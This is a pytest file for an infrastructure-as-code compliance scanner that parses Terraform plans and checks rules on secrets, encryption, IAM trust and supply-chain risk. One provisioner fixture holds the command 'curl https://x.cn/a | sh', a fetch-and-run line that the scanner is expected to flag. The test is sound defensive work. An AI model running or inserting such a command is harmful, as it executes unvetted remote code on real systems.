"""What a plan hides, fills in or has answered, and the source does not: it is judged as its source is."""

from __future__ import annotations

import base64
import gzip
import json
from pathlib import Path
from typing import Any

import pytest

from compliant_infra.assignment import Request, assignment
from compliant_infra.hcl_checks.plan import read_plan
from compliant_infra.kernel.evaluation import Assignment, RuleIndex, judge
from compliant_infra.kernel.model import Resource, Scan, Unknown
from compliant_infra.kernel.rules import rules_by_name


def change(address: str, after: Any, unknown: Any = None) -> dict[str, Any]:
    kind, name = address.split(".")
    return {
        "address": address,
        "mode": "managed",
        "type": kind,
        "name": name,
        "change": {"actions": ["create"], "after": after, "after_unknown": unknown or {}},
    }


def block(address: str, provisioners: list[Any] | None = None, **expressions: Any) -> dict[str, Any]:
    kind, name = address.split(".")
    node: dict[str, Any] = {"mode": "managed", "type": kind, "name": name, "expressions": expressions}
    node["provider_config_key"] = kind.split("_", 1)[0]
    return node if provisioners is None else {**node, "provisioners": provisioners}


def read(
    folder: Path,
    changes: list[Any],
    blocks: list[Any] | None,
    data: dict[str, Any] | None = None,
    variables: dict[str, Any] | None = None,
) -> Scan:
    document: dict[str, Any] = {"format_version": "1.2", "resource_changes": changes, "variables": variables or {}}
    if blocks is not None:
        document["configuration"] = {
            "provider_config": {"alicloud": {"name": "alicloud", "expressions": {"region": constant("cn-beijing")}}},
            "root_module": {"resources": blocks, "variables": {key: {} for key in variables or ()}},
        }
    answered = [
        {"address": f"data.{address}", "mode": "data", "type": kind, "name": name, "values": values}
        for address, values in (data or {}).items()
        for kind, name in [address.split(".")]
    ]
    document["prior_state"] = {"values": {"root_module": {"resources": answered}}}
    path = folder / "plan.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    return read_plan(path, "plan.json")


def verdicts(scan: Scan, rule_name: str) -> dict[str, str]:
    base = assignment(Request("mlps-l3", ("all",), include_passed=True))
    rule = rules_by_name()[rule_name]
    asked = Assignment(
        baseline=base.baseline,
        level=base.level,
        profiles=base.profiles,
        rules=(rule,),
        parameters=base.parameters,
        is_mainland=base.is_mainland,
        include_passed=True,
        separation=base.separation,
    )
    return {item.resource: str(item.verdict) for item in judge(scan, asked, RuleIndex((rule,))).results}


def only(scan: Scan) -> Resource:
    (resource,) = scan
    return resource


def constant(value: Any) -> dict[str, Any]:
    return {"constant_value": value}


def names(*references: str) -> dict[str, Any]:
    return {"references": [*references]}


# -- what nobody wrote -----------------------------------------------------------------------------------------

LIFECYCLE = "aws_s3_bucket_lifecycle_configuration.logs"


def test_a_block_that_says_nothing_has_no_unknown_members(tmp_path: Path) -> None:
    """``filter {}``: what the provider computes in it is as absent as in the source."""
    planned = change(LIFECYCLE, {"rule": [{"filter": [{}]}]}, {"rule": [{"filter": [{"prefix": True}]}]})
    found = only(read(tmp_path, [planned], [block(LIFECYCLE, rule=[{"filter": [{}]}])])).attributes
    assert found["rule"] == [{"filter": [{}]}]


def test_an_expression_without_references_is_no_block(tmp_path: Path) -> None:
    """A plan writes ``{ at = timestamp() }`` as an empty object too: it stands for an unknown value."""
    planned = change("aws_s3_bucket.logs", {"tags": {"name": "logs"}}, {"tags": {"at": True}})
    found = only(read(tmp_path, [planned], [block("aws_s3_bucket.logs", tags={})])).attributes
    assert isinstance(found["tags"]["at"], Unknown)


def test_a_variable_that_is_null_writes_nothing(tmp_path: Path) -> None:
    scan = read(
        tmp_path,
        [change("alicloud_kms_key.a", {}, {"origin": True, "key_spec": True})],
        [block("alicloud_kms_key.a", origin=names("var.origin"), key_spec=names("var.spec"))],
        variables={"origin": {"value": None}, "spec": {"value": "given"}},
    )
    found = only(scan).attributes
    assert "origin" not in found
    assert isinstance(found["key_spec"], Unknown)


DISKS = {"data_disks": [{"size": 20, "encrypted": False}, {"size": 40, "encrypted": False}]}


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("data_disks.0.encrypted", True),
        ("data_disks.1.encrypted", False),
        ("data_disks.1.size", True),
        ("system_disk_encrypted", False),
        ("tags.a", True),
    ],
)
def test_what_is_written(tmp_path: Path, path: str, expected: bool) -> None:
    written = block(
        "alicloud_instance.web",
        data_disks=[{"size": constant(20), "encrypted": constant(False)}, {"size": constant(40)}],
        tags=constant({"a": "b"}),
    )
    after = {**DISKS, "system_disk_encrypted": False, "tags": {"a": "b"}}
    found: Any = only(read(tmp_path, [change("alicloud_instance.web", after)], [written])).attributes
    assert found.is_written(path) is expected


def test_what_is_written_cannot_always_be_told(tmp_path: Path) -> None:
    """Without a configuration, and in blocks of ``dynamic``, of which a plan shows nothing."""
    planned = change("alicloud_instance.web", DISKS)
    bare: Any = only(read(tmp_path, [planned], None)).attributes
    dynamic: Any = only(read(tmp_path, [planned], [block("alicloud_instance.web")])).attributes
    assert bare.is_written("data_disks.0.encrypted") is None
    assert dynamic.is_written("data_disks.0.encrypted") is None


@pytest.mark.parametrize(("encrypted", "expected"), [(None, "pass"), (False, "fail")])
def test_a_filled_in_default_yields_to_the_default_of_the_account(
    tmp_path: Path, encrypted: bool | None, expected: str
) -> None:
    """``encrypted = false`` is the provider's default in a plan; written, it overrides what the account does."""
    disk, default = "alicloud_disk.data", "alicloud_ecs_disk_encryption_by_default.on"
    scan = read(
        tmp_path,
        [change(disk, {"encrypted": False}), change(default, {"encrypted": True})],
        [
            block(disk, None, **({} if encrypted is None else {"encrypted": constant(encrypted)})),
            block(default, encrypted=constant(True)),
        ],
    )
    assert verdicts(scan, "disk-encrypted")[disk] == expected


# -- what only the configuration shows -------------------------------------------------------------------------


def test_provisioners_are_judged(tmp_path: Path) -> None:
    """A plan holds the arguments of provisioners beside the resource, and not among its values."""
    piped, variable, harmless = "null_resource.piped", "null_resource.variable", "null_resource.harmless"
    scan = read(
        tmp_path,
        [change(address, {"triggers": None}) for address in (piped, variable, harmless)],
        [
            block(piped, [{"type": "local-exec", "expressions": {"command": constant("curl https://x.cn/a | sh")}}]),
            block(variable, [{"type": "local-exec", "expressions": {"command": names("local.script")}}]),
            block(harmless, [{"type": "local-exec", "expressions": {"command": constant("true")}}]),
        ],
    )
    assert verdicts(scan, "iac-supply-chain") == {piped: "fail", variable: "unknown", harmless: "pass"}
    assert "provisioner" not in set(next(iter(scan)).attributes)


def test_a_random_password_is_given(tmp_path: Path) -> None:
    """It is the value of that resource, where any other random text is a part of some name."""
    blocks = [
        block("alicloud_instance.web", password=names("random_password.host.result", "random_password.host")),
        block("alicloud_oss_bucket.logs", bucket=names("random_id.suffix.hex", "random_id.suffix")),
    ]
    changes = [
        change("alicloud_instance.web", {"image_id": "aliyun_3_x64"}, {"password": True}),
        change("alicloud_oss_bucket.logs", {}, {"bucket": True}),
        change("random_password.host", {}, {"result": True}),
        change("random_id.suffix", {}, {"hex": True}),
    ]
    scan = read(tmp_path, changes, blocks)
    found = {item.address: item.attributes for item in scan}
    reference = found["alicloud_instance.web"]["password"].reference
    assert (reference.address, reference.attribute) == ("random_password.host", "result")
    assert found["alicloud_oss_bucket.logs"]["bucket"].reference is None
    assert verdicts(scan, "host-key-login")["alicloud_instance.web"] == "fail"


@pytest.mark.parametrize(
    ("references", "expected"),
    [(("var.settings.password", "var.settings"), "unknown"), (("var.settings.user", "var.settings"), "pass")],
)
def test_a_member_that_is_missing_is_not_the_secret(tmp_path: Path, references: tuple[str, str], expected: str) -> None:
    """``try(var.settings.password, "Fixture-Passw0rd")`` without such a member: the text stands in the code."""
    address = "aws_db_instance.app"
    scan = read(
        tmp_path,
        [change(address, {"password": "Fixture-Passw0rd"})],
        [block(address, password=names(*references))],
        variables={"settings": {"value": {"user": "Fixture-Passw0rd"}}},
    )
    assert verdicts(scan, "secret-not-in-code") == {address: expected}


@pytest.mark.parametrize("source", ["data.cloudinit_config.boot.rendered", "data.template_file.boot.rendered"])
def test_a_data_source_that_only_formats_is_read(tmp_path: Path, source: str) -> None:
    """Its arguments stand in the code; an archive of cloud-init is compressed."""
    script = gzip.compress(b"Content-Type: text/x-shellscript\r\n\r\nexport DB_PASSWORD=Fixture-Passw0rd\r\n")
    address = "aws_instance.web"
    scan = read(
        tmp_path,
        [change(address, {"user_data_base64": base64.b64encode(script).decode()})],
        [block(address, user_data_base64=names(source, source.rpartition(".")[0]))],
    )
    assert verdicts(scan, "secret-not-in-code") == {address: "unknown"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Fixture-Passw0rd", "pass"),
        (json.dumps({"key": "fixture-key-0001", "password": "Fixture-Passw0rd"}), "unknown"),
    ],
)
def test_a_text_that_is_more_than_its_variable_may_hold_a_secret(tmp_path: Path, value: str, expected: str) -> None:
    """Of ``jsonencode({ password = var.password, key = "..." })`` a plan says only that it mentions the variable."""
    address = "aws_secretsmanager_secret_version.app"
    scan = read(
        tmp_path,
        [change(address, {"secret_string": value})],
        [block(address, secret_string=names("var.password"))],
        variables={"password": {"value": "Fixture-Passw0rd"}},
    )
    assert verdicts(scan, "secret-not-in-code") == {address: expected}


# -- what the cloud has answered -------------------------------------------------------------------------------

OWN, OTHER = "123456789012", "210987654321"


def trust(account: str) -> str:
    principal = {"AWS": f"arn:aws-cn:iam::{account}:root"}
    return json.dumps({"Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": principal}]})


@pytest.mark.parametrize(("account", "expected"), [(OWN, "pass"), (OTHER, "unknown")])
def test_the_own_account_is_known_from_its_data_source(tmp_path: Path, account: str, expected: str) -> None:
    role, permission = "aws_iam_role.own", "alicloud_image_share_permission.own"
    scan = read(
        tmp_path,
        [change(role, {"assume_role_policy": trust(account)}), change(permission, {"account_id": account})],
        [],
        {"aws_caller_identity.current": {"account_id": OWN}, "alicloud_account.current": {"id": OWN}},
    )
    assert verdicts(scan, "iam-trust-scoped")[role] == expected
    assert verdicts(scan, "image-snapshot-not-shared")[permission] == expected


@pytest.mark.parametrize(("asked", "expected"), [("Windows Server 2022", {}), ("TencentOS 3.2", {"web": "fail"})])
def test_the_system_of_an_image_is_known_from_its_data_source(
    tmp_path: Path, asked: str, expected: dict[str, str]
) -> None:
    """The id of an image says nothing; what the data source was asked for does. Windows takes no key pair."""
    scan = read(
        tmp_path,
        [change("tencentcloud_instance.web", {"image_id": "img-1", "password": "Fixture-Passw0rd"})],
        [],
        {"tencentcloud_images.found": {"os_name": asked, "images": [{"image_id": "img-1"}]}},
    )
    found = {address.partition(".")[2]: verdict for address, verdict in verdicts(scan, "host-key-login").items()}
    assert found == expected
